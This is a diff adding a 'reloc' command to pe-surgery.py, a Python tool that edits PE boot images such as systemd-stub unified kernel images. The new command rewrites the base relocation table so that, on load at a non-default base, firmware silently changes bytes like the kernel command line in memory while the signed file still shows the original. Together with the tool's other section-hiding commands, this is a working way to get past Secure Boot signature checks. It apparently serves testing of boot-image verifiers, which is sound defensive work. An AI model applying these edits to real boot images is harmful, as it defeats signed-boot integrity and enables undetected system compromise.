@@ -18,6 +18,16 @@
 #       leaves SECTION in the table with VirtualSize 0 and no raw data; its
 #       bytes are cut from the file and later sections' data moved up, so
 #       the file has no gap (a gap would change what Authenticode hashes).
+#   pe-surgery.py reloc IN OUT SECTION OFFSET [TYPE]
+#       rewrites the base relocation table (the block the data directory
+#       points at, such as the 12-byte .reloc of keel's stub or systemd-stub
+#       252) into one block with a single fixup of TYPE (dir64 by default;
+#       highlow, high, low, absolute or a number 0-15) at SECTION's
+#       VirtualAddress + OFFSET (SECTION "headers" is RVA 0), the rest
+#       ABSOLUTE padding. When the firmware loads the image anywhere but its
+#       ImageBase it adds the difference to the bytes there, so a fixup in
+#       .cmdline changes the command line in memory while every tool reading
+#       the file shows the signed one.
 #
 # Every command keeps the file data contiguous and recomputes the PE
 # checksum; SizeOfImage never needs to change (no section grows in memory).
@@ -135,8 +145,36 @@ def empty(pe, section):
             pe.put32(o + pe.RAW_OFFSET, pe.u32(o + pe.RAW_OFFSET) - size)
 
 
+RELOC_TYPES = {"absolute": 0, "high": 1, "low": 2, "highlow": 3, "dir64": 10}
+
+
+def reloc(pe, section, offset, kind):
+    # Data directory 5 (base relocation table): an RVA and a size.
+    rva, size = pe.u32(pe.opt + 112 + 5 * 8), pe.u32(pe.opt + 112 + 5 * 8 + 4)
+    if size < 10 or size % 2:
+        sys.exit(f"pe-surgery: the relocation table has {size} bytes; need an even size of at least 10")
+    table = None
+    for i in range(pe.n_sections):
+        h = pe.header(i)
+        va, raw_size = pe.u32(h + pe.VADDR), pe.u32(h + pe.RAW_SIZE)
+        if va <= rva and rva + size <= va + min(pe.u32(h + pe.VSIZE), raw_size):
+            table = pe.u32(h + pe.RAW_OFFSET) + rva - va
+    if table is None:
+        sys.exit("pe-surgery: the relocation table is not in a section's file data")
+    base = 0 if section == "headers" else pe.u32(pe.find(section) + pe.VADDR)
+    target = base + offset
+    kind = RELOC_TYPES.get(kind, kind)
+    if not isinstance(kind, int):
+        kind = int(kind, 0) if kind.isdigit() else -1
+    if not 0 <= target < 1 << 32 or not 0 <= kind < 16:
+        sys.exit("pe-surgery: target or type out of range")
+    block = struct.pack("<IIH", target & ~0xFFF, size, kind << 12 | (target & 0xFFF))
+    pe.data[table:table + size] = block + b"\0" * (size - len(block))
+
+
 def main(argv):
-    usage = "usage: pe-surgery.py hide IN OUT OVER NAME DATA | zero-vsize IN OUT SECTION | empty IN OUT SECTION"
+    usage = ("usage: pe-surgery.py hide IN OUT OVER NAME DATA | zero-vsize IN OUT SECTION | empty IN OUT SECTION | "
+             "reloc IN OUT SECTION OFFSET [TYPE]")
     if len(argv) < 4:
         sys.exit(usage)
     cmd, src, dst = argv[1:4]
@@ -149,6 +187,8 @@ def main(argv):
         zero_vsize(pe, argv[4])
     elif cmd == "empty" and len(argv) == 5:
         empty(pe, argv[4])
+    elif cmd == "reloc" and len(argv) in (6, 7):
+        reloc(pe, argv[4], int(argv[5], 0), argv[6] if len(argv) == 7 else "dir64")
     else:
         sys.exit(usage)
     pe.fix_checksum()
